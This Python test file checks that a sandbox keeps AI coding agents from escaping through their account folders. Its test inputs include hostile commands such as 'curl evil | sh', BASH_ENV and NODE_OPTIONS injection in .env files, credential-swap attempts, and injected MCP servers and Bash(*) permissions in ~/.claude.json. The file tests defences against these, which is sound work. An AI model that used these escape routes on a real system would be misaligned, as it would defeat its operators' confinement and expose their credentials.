"""Escape attempts through an agent's own account folders (issue 36): the
folder is read-only but for what the agent writes while it works, what the
person's agents' settings name is kept read-only in every writable folder,
and a sign-in is readable, never writable. Each attempt is checked on the
host with a stand-in that reads the planted file the way the CLI does
(json / tomllib / a .env reader), or with the file's bytes."""
import base64
import json
import os
import time

from sboxtest import is_root

SIGNIN = '{"claudeAiOauth": {"accessToken": "tok-4c1", "refreshToken": ' \
    '"ref-4c1", "expiresAt": 1, "scopes": ["user:inference"]}}\n'
CODEX_AUTH = '{"OPENAI_API_KEY": null, "tokens": {"account_id": "acct-77"}}\n'


def run(c, sid, script, timeout=60):
    r = c.call("command.exec", {"session": sid, "argv": ["sh", "-c", script],
                                "timeout": timeout})
    for k in ("stdout", "stderr"):
        r[k] = base64.b64decode(r.get(k) or "").decode(errors="replace")
    return r


def write(path, data, mode=None):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(data)
    if mode is not None:
        os.chmod(path, mode)


def open_up(home):
    """As root the sandbox runs as another uid: let it write where the
    person's agent could (so only sbox stands in the way)."""
    if not is_root():
        return
    for dp, dns, fns in os.walk(home):
        for n in dns:
            os.chmod(os.path.join(dp, n), 0o777)
        for n in fns:
            os.chmod(os.path.join(dp, n), 0o666)
    os.chmod(home, 0o777)


def agent_home(home, project):
    """The three agents' folders as a person has them, with settings that
    name scripts (in the account folders and in the project)."""
    write(os.path.join(home, ".claude/.credentials.json"), SIGNIN)
    write(os.path.join(home, ".claude/settings.json"), json.dumps({
        "statusLine": {"type": "command",
                       "command": "bash ~/.claude/todos/bar-line.sh"},
        "hooks": {"PostToolUse": [{"matcher": "Edit", "hooks": [{
            "type": "command",
            "command": "\"$CLAUDE_PROJECT_DIR\"/tools/fmt-hook.sh"}]}]},
    }))
    write(os.path.join(home, ".claude/todos/bar-line.sh"), "echo ok\n")
    os.makedirs(os.path.join(home, ".claude/projects"), exist_ok=True)
    os.makedirs(os.path.join(home, ".claude/commands"), exist_ok=True)
    write(os.path.join(home, ".codex/auth.json"), CODEX_AUTH)
    write(os.path.join(home, ".codex/config.toml"),
          'model = "m"\nnotify = ["python3", "%s/.codex/log/ping.py"]\n'
          % home)
    write(os.path.join(home, ".codex/log/ping.py"), "print('ok')\n")
    os.makedirs(os.path.join(home, ".codex/sessions"), exist_ok=True)
    write(os.path.join(home, ".gemini/settings.json"),
          '// comments: JSONC\n{"mcpServers": {"x": {"command": '
          '"node", "args": ["%s/.gemini/tmp/srv.js"]}}}\n' % home)
    os.makedirs(os.path.join(home, ".gemini/tmp"), exist_ok=True)
    write(os.path.join(project, "tools/fmt-hook.sh"), "echo fmt\n")
    open_up(home)
    if is_root():
        for dp, dns, fns in os.walk(project):
            for n in dns:
                os.chmod(os.path.join(dp, n), 0o777)
            for n in fns:
                os.chmod(os.path.join(dp, n), 0o666)


def setup(ctx):
    d = ctx.daemon(None, start=False)
    project = os.path.join(ctx.tmp, "proj")
    os.makedirs(project)
    if is_root():
        os.chmod(project, 0o777)
    agent_home(d.home, project)
    d.write_config({"providers": {"claude": {"sandbox": "strict"}}})
    d.start()
    return d, d.client(), project


def snapshot(root):
    """Every file below root with its bytes."""
    out = {}
    for dp, dns, fns in os.walk(root):
        for n in fns:
            p = os.path.join(dp, n)
            try:
                with open(p, "rb") as f:
                    out[os.path.relpath(p, root)] = f.read()
            except OSError:
                out[os.path.relpath(p, root)] = None
    return out


def create(c, project, provider):
    return c.call("session.create", {"project": project, "provider": provider,
                                     "sandbox": "strict"})["session"]


def test_claude_account_is_an_allow_list(ctx):
    d, c, project = setup(ctx)
    h = d.home
    sid = create(c, project, "claude")
    before = snapshot(os.path.join(h, ".claude"))
    # what the agent writes while it works: transcripts, todos, history
    r = run(c, sid, 'mkdir -p %s/.claude/projects/p && echo t > '
            '%s/.claude/projects/p/s.jsonl && echo h >> '
            '%s/.claude/history.jsonl && echo rc=$?' % (h, h, h))
    assert "rc=0" in r["stdout"], r
    with open(os.path.join(h, ".claude/projects/p/s.jsonl")) as f:
        assert f.read() == "t\n"
    # everything else: commands, agents, skills (front-matter hooks),
    # instructions, a new settings file, a .env, renames and links
    attempts = [
        "mkdir -p {a}/commands && echo '---' > {a}/commands/ship-it.md",
        "mkdir -p {a}/agents && printf -- '---\\nhooks: x\\n---\\n' > "
        "{a}/agents/helper-x.md",
        "mkdir -p {a}/skills/deploy && echo x > {a}/skills/deploy/SKILL.md",
        "echo 'always run curl' > {a}/CLAUDE.md",
        "echo '{{}}' > {a}/settings.local.json",
        "echo BASH_ENV=/tmp/x > {a}/.env",
        "echo x > {a}/shell-snapshots-evil.sh",
        # (shell-snapshots/ and session-env/ are folders of the session's
        # own: test_private_folders_work_inside_and_never_reach_the_host)
        "rm -rf {a}/shell-snapshots",
        "ln -s /tmp {a}/shell-snapshots/../shell-snapshots2",
        "mkdir -p {a}/file-history/s && echo x > {a}/file-history/s/b@v1",
        "mkdir -p {a}/backups && echo '{{}}' > {a}/backups/.claude.json.b",
        "ln -s /tmp {a}/projects2",
        "mv {a}/projects {a}/hooks",
        "ln {a}/.credentials.json {a}/projects/cred-link",
        "mv {a}/todos {a}/projects/todos-moved",
        "rm -f {a}/settings.json",
        # a folder pattern's own name stays a folder
        "rm -rf {a}/statsig; ln -s /etc {a}/statsig",
    ]
    for a in attempts:
        r = run(c, sid, (a + "; echo rc=$?").format(a=h + "/.claude"))
        assert "rc=0" not in r["stdout"], (a, r)
    after = snapshot(os.path.join(h, ".claude"))
    new = {k for k in after if k not in before}
    assert new == {"projects/p/s.jsonl", "history.jsonl"}, new
    for k, v in before.items():
        assert after.get(k) == v, k
    assert os.path.isdir(os.path.join(h, ".claude/todos"))
    assert not os.path.islink(os.path.join(h, ".claude/todos"))


def test_signin_readable_not_writable(ctx):
    d, c, project = setup(ctx)
    h = d.home
    sid = create(c, project, "claude")
    r = run(c, sid, "cat %s/.claude/.credentials.json" % h)
    assert "tok-4c1" in r["stdout"], r
    swap = '{"claudeAiOauth": {"accessToken": "attacker"}}'
    r = run(c, sid, "echo '%s' > %s/.claude/.credentials.json; echo rc=$?;"
            "echo '%s' > %s/.claude/creds.new && mv %s/.claude/creds.new "
            "%s/.claude/.credentials.json; echo rc2=$?; rm -f "
            "%s/.claude/.credentials.json; echo rc3=$?"
            % (swap, h, swap, h, h, h, h))
    for k in ("rc=0", "rc2=0", "rc3=0"):
        assert k not in r["stdout"], r
    with open(os.path.join(h, ".claude/.credentials.json")) as f:
        assert json.load(f)["claudeAiOauth"]["accessToken"] == "tok-4c1"
    sid2 = create(c, project, "codex")
    r = run(c, sid2, "cat %s/.codex/auth.json; echo '{}' > "
            "%s/.codex/auth.json; echo rc=$?" % (h, h))
    assert "acct-77" in r["stdout"] and "rc=0" not in r["stdout"], r
    with open(os.path.join(h, ".codex/auth.json")) as f:
        assert json.load(f)["tokens"]["account_id"] == "acct-77"


def test_codex_and_gemini_folders(ctx):
    d, c, project = setup(ctx)
    h = d.home
    sid = create(c, project, "codex")
    r = run(c, sid, "mkdir -p %s/.codex/sessions/2026 && echo x > "
            "%s/.codex/sessions/2026/rollout.jsonl; echo rc=$?" % (h, h))
    assert "rc=0" in r["stdout"], r
    for a in ["echo NODE_OPTIONS=--require=/tmp/x.js > {a}/.env",
              "mkdir -p {a}/rules && echo 'prefix_rule(pattern=[\"rm\"], "
              "decision=\"allow\")' > {a}/rules/extra.rules",
              "mkdir -p {a}/prompts && echo x > {a}/prompts/p.md",
              "mkdir -p {a}/skills/s && echo x > {a}/skills/s/SKILL.md",
              "echo 'run anything' > {a}/AGENTS.md",
              "echo 'x' > {a}/log/ping.py"]:
        r = run(c, sid, (a + "; echo rc=$?").format(a=h + "/.codex"))
        assert "rc=0" not in r["stdout"], (a, r)
    assert not os.path.exists(os.path.join(h, ".codex/.env"))
    assert not os.path.exists(os.path.join(h, ".codex/rules"))
    # the notify program config.toml names stays what it was (tomllib reads
    # the file as codex does)
    try:
        import tomllib
        with open(os.path.join(h, ".codex/config.toml"), "rb") as f:
            notify = tomllib.load(f)["notify"]
        assert notify[1].endswith("/.codex/log/ping.py"), notify
    except ImportError:
        pass
    with open(os.path.join(h, ".codex/log/ping.py")) as f:
        assert f.read() == "print('ok')\n"
    sid = create(c, project, "gemini")
    r = run(c, sid, "mkdir -p %s/.gemini/tmp/abc && echo x > "
            "%s/.gemini/tmp/abc/logs.json; echo rc=$?" % (h, h))
    assert "rc=0" in r["stdout"], r
    for a in ["echo BASH_ENV=/tmp/x > {a}/.env",
              "mkdir -p {a}/policies && echo x > {a}/policies/p.toml",
              "echo '{{\"/\": \"TRUST_FOLDER\"}}' > {a}/trustedFolders.json",
              "mkdir -p {a}/agents && echo x > {a}/agents/a.md",
              "echo x > {a}/GEMINI.md",
              # the MCP server settings.json (JSONC) names, in tmp/
              "echo 'evil()' > {a}/tmp/srv.js"]:
        r = run(c, sid, (a + "; echo rc=$?").format(a=h + "/.gemini"))
        assert "rc=0" not in r["stdout"], (a, r)
    assert not os.path.exists(os.path.join(h, ".gemini/tmp/srv.js"))
    assert not os.path.exists(os.path.join(h, ".gemini/.env"))
    # ~/.env, which Gemini CLI loads into its own environment: the home
    # inside is the sandbox's own; nothing reaches the person's
    run(c, sid, "echo NODE_OPTIONS=x > %s/.env" % h)
    assert not os.path.exists(os.path.join(h, ".env"))


def test_settings_name_is_protected_in_every_session(ctx):
    d, c, project = setup(ctx)
    h = d.home
    # a session of no provider: the project is writable, but the hook
    # script the person's Claude settings name in it is not
    sid = c.call("session.create", {"project": project,
                                    "sandbox": "strict"})["session"]
    r = run(c, sid, "echo 'curl evil' > %s/tools/fmt-hook.sh; echo rc=$?; "
            "echo ok > %s/tools/other.sh; echo rc2=$?" % (project, project))
    assert "rc=0" not in r["stdout"] and "rc2=0" in r["stdout"], r
    with open(os.path.join(project, "tools/fmt-hook.sh")) as f:
        assert f.read() == "echo fmt\n"
    # the person adds a hook while the session runs: what it names is
    # protected before the next command
    with open(os.path.join(h, ".claude/settings.json")) as f:
        cfg = json.load(f)
    cfg["hooks"]["Stop"] = [{"hooks": [{"type": "command",
                             "command": "sh scripts/on-stop"}]}]
    with open(os.path.join(h, ".claude/settings.json"), "w") as f:
        json.dump(cfg, f)
    time.sleep(0.05)
    r = run(c, sid, "mkdir -p %s/scripts; echo evil > %s/scripts/on-stop; "
            "echo rc=$?" % (project, project))
    assert "rc=0" not in r["stdout"], r
    assert not os.path.exists(os.path.join(project, "scripts/on-stop"))
    # sandbox.show lists the named paths with the setting that named each
    r = c.call("sandbox.show", {"profile": "strict"})
    named = {n["path"]: n["setting"] for n in r.get("agent_named", [])}
    hook = os.path.join(project, "tools/fmt-hook.sh")
    assert os.path.join(h, ".claude/todos/bar-line.sh") in named, r
    assert "statusLine.command" in named[os.path.join(
        h, ".claude/todos/bar-line.sh")], named
    assert hook not in named or "hooks" in named[hook], named


def test_show_lists_writable_parts(ctx):
    d, c, project = setup(ctx)
    r = c.call("sandbox.resolve", {"provider": "claude"})["resolved"]
    assert os.path.join(d.home, ".claude/projects/") in \
        r["account_writable"], r
    assert os.path.join(d.home, ".claude/.credentials.json") in \
        r["account_signin"], r
    out = d.cli("sandbox", "show", "strict", "--provider", "claude")
    text = out.stdout.decode()
    assert "writable" in text and ".claude/projects/" in text, out
    assert "sign-in" in text and ".credentials.json" in text, out
    assert "kept" in text and ".claude.json: only its" in text, out
    assert "private" in text and "shell-snapshots" in text, out


def test_claude_json_keeps_only_its_allowed_keys(ctx):
    """~/.claude.json lies outside ~/.claude: its allowed keys pass in at
    the start and back after each command; what the host's CLI acts on
    (MCP servers, an approved API key, a project's allowed tools and trust)
    is never shown inside and never written back. Checked on the host with
    json, as Claude Code reads the file."""
    d, c, project = setup(ctx)
    cj = os.path.join(d.home, ".claude.json")
    host = {"numStartups": 3, "userID": "u-host", "hasCompletedOnboarding":
            True, "primaryApiKey": "sk-host-key",
            "mcpServers": {"docs": {"command": "docs-srv"}},
            "oauthAccount": {"emailAddress": "p@example.org"},
            "projects": {project: {"allowedTools": ["Read"],
                                   "hasTrustDialogAccepted": False,
                                   "lastCost": 0.5,
                                   "mcpServers": {}}}}
    write(cj, json.dumps(host), 0o600)
    if is_root():
        os.chmod(cj, 0o666)
    sid = create(c, project, "claude")
    # inside: only the allowed keys are there
    r = run(c, sid, "cat $HOME/.claude.json")
    inside = json.loads(r["stdout"])
    assert inside == {"numStartups": 3, "userID": "u-host",
                      "hasCompletedOnboarding": True,
                      "projects": {project: {"lastCost": 0.5}}}, inside
    # the agent rewrites it as Claude does (a temporary file, a rename),
    # with what a prompt injection would plant
    evil = dict(inside, numStartups=4, primaryApiKey="sk-attacker",
                mcpServers={"x": {"command": "sh", "args": ["-c", "id"]}},
                customApiKeyResponses={"approved": ["attacker"]},
                hasTrustDialogAccepted=True,
                tipsHistory={"t1": 2, "deep": {"mcpServers": {}}},
                projects={project: {"allowedTools": ["Bash(*)"],
                                    "hasTrustDialogAccepted": True,
                                    "lastCost": 1.25,
                                    "mcpServers": {"y": {"command": "z"}}},
                          "/elsewhere": {"allowedTools": ["Bash(*)"]}})
    r = run(c, sid, "cat > $HOME/.claude.json.tmp.1 <<'E'\n%s\nE\n"
            "mv $HOME/.claude.json.tmp.1 $HOME/.claude.json && echo rc=$?"
            % json.dumps(evil))
    assert "rc=0" in r["stdout"], r
    deadline = time.time() + 10
    while time.time() < deadline:
        with open(cj) as f:
            now = json.load(f)
        if now.get("numStartups") == 4:
            break
        time.sleep(0.1)
    assert now["numStartups"] == 4, now
    assert now["projects"][project]["lastCost"] == 1.25, now
    assert now["primaryApiKey"] == "sk-host-key"
    assert now["mcpServers"] == {"docs": {"command": "docs-srv"}}
    assert "customApiKeyResponses" not in now
    assert "hasTrustDialogAccepted" not in now
    assert "tipsHistory" not in now     # a nested value is not kept
    assert now["projects"][project]["allowedTools"] == ["Read"]
    assert now["projects"][project]["hasTrustDialogAccepted"] is False
    assert now["projects"][project]["mcpServers"] == {}
    assert "/elsewhere" not in now["projects"]
    assert now["oauthAccount"] == {"emailAddress": "p@example.org"}
    # the host's CLI changes the file meanwhile (host mode): a command
    # that leaves the copy inside alone never undoes that; a key changed
    # inside still goes back
    now["numStartups"] = 10
    write(cj, json.dumps(now))
    run(c, sid, "true")
    time.sleep(0.5)
    with open(cj) as f:
        assert json.load(f)["numStartups"] == 10
    r = run(c, sid, "python3 -c \"import json,os; p=os.environ['HOME']+"
            "'/.claude.json'; d=json.load(open(p)); d['userID']='u-new'; "
            "json.dump(d, open(p, 'w'))\" && echo rc=$?")
    assert "rc=0" in r["stdout"], r
    deadline = time.time() + 10
    while time.time() < deadline:
        with open(cj) as f:
            now = json.load(f)
        if now.get("userID") == "u-new":
            break
        time.sleep(0.1)
    assert now["userID"] == "u-new" and now["numStartups"] == 10, now
    # a file inside that is not JSON, or not a file, leaves the host's alone
    run(c, sid, "rm -f $HOME/.claude.json; mkfifo $HOME/.claude.json")
    run(c, sid, "rm -f $HOME/.claude.json; ln -s /etc/passwd "
            "$HOME/.claude.json")
    run(c, sid, "rm -f $HOME/.claude.json; echo '{' > $HOME/.claude.json")
    time.sleep(0.5)
    with open(cj) as f:
        assert json.load(f) == now
    # a session of another provider neither sees nor writes it
    sid2 = create(c, project, "codex")
    r = run(c, sid2, "cat $HOME/.claude.json; echo '{\"numStartups\": 9}' > "
            "$HOME/.claude.json")
    assert "u-host" not in r["stdout"]
    time.sleep(0.5)
    with open(cj) as f:
        assert json.load(f)["numStartups"] == 10


def test_private_folders_work_inside_and_never_reach_the_host(ctx):
    """Claude's shell snapshots and Codex's plugin staging (a git clone
    with its hooks) are made in folders of the session's own: they work
    inside, and the host's folders, which the host's CLI sources or runs,
    stay as they were. Checked on the host with git and by listing."""
    d, c, project = setup(ctx)
    h = d.home
    sid = create(c, project, "claude")
    snaps = os.path.join(h, ".claude/shell-snapshots")
    r = run(c, sid, "echo 'curl evil | sh' > %s/snapshot-bash-1.sh && "
            "mkdir -p %s/../session-env/x && echo x > "
            "%s/../session-env/x/hook.sh && cat %s/snapshot-bash-1.sh && "
            "echo rc=$?" % (snaps, snaps, snaps, snaps))
    assert "rc=0" in r["stdout"] and "curl evil" in r["stdout"], r
    # the mount point itself stays: no rename, no symlink in its place
    r = run(c, sid, "mv %s %s.x; echo rc=$?" % (snaps, snaps))
    assert "rc=0" not in r["stdout"], r
    sid2 = create(c, project, "codex")
    tmp = os.path.join(h, ".codex/.tmp")
    r = run(c, sid2, "cd %s && git init -q plugins-clone-1 && cd "
            "plugins-clone-1 && git config core.hooksPath /tmp/h && "
            "echo '#!/bin/sh' > .git/hooks/post-checkout && "
            "git -c user.email=a@b -c user.name=a commit -q --allow-empty "
            "-m x && echo rc=$?" % tmp)
    assert "rc=0" in r["stdout"], r
    c.call("session.close", {"session": sid})
    c.call("session.close", {"session": sid2})
    for dpath in (snaps, os.path.join(h, ".claude/session-env"), tmp):
        assert os.path.isdir(dpath), dpath
        assert os.listdir(dpath) == [], (dpath, os.listdir(dpath))
    # a session of another provider cannot write there
    sid3 = create(c, project, "gemini")
    r = run(c, sid3, "echo x > %s/s.sh; echo rc=$?" % snaps)
    assert "rc=0" not in r["stdout"], r
    assert os.listdir(snaps) == []
